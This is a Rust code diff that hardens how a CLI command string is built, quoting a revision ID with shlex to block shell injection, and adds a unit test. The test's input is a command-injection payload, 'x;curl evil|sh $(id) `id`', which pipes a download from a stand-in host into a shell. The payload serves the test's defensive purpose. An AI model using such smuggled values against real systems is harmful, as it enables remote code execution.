@@ -360,7 +360,7 @@ impl AddForm {
             parts.push("--invoked-via-function-url".into());
         }
         if let Some(revision) = &request.revision_id {
-            parts.push(format!("--revision-id {revision}"));
+            parts.push(format!("--revision-id {}", shell_word(revision)));
         }
         parts.join(" ")
     }
@@ -441,14 +441,31 @@ pub fn validation_fields(message: &str) -> Vec<(Field, String)> {
         .collect()
 }
 
+/// A value as one shell word: whatever the server or the user wrote, pasting the command runs
+/// only the command. A value shlex cannot quote (a NUL) is left out whole.
 fn shell_word(value: &str) -> String {
-    if !value.is_empty()
-        && value
-            .chars()
-            .all(|c| c.is_ascii_alphanumeric() || "-_.:/@=+,".contains(c))
-    {
-        value.to_string()
-    } else {
-        format!("'{}'", value.replace('\'', r"'\''"))
+    shlex::try_quote(value).map_or_else(|_| "''".into(), |q| q.into_owned())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_hostile_revision_stays_one_word_of_the_cli_command() {
+        let presets = crate::policy::builtin_presets().unwrap();
+        let hostile = "x;curl evil|sh $(id) `id`";
+        let form = AddForm::new(
+            &Target::new("f", None),
+            vec![None],
+            &presets,
+            Some(hostile.into()),
+            Vec::new(),
+            Some("123456789012".into()),
+            "us-east-1",
+        );
+        let words = shlex::split(&form.cli_command()).expect("the command is well quoted");
+        let at = words.iter().position(|w| w == "--revision-id").unwrap();
+        assert_eq!(words[at + 1], hostile);
     }
 }
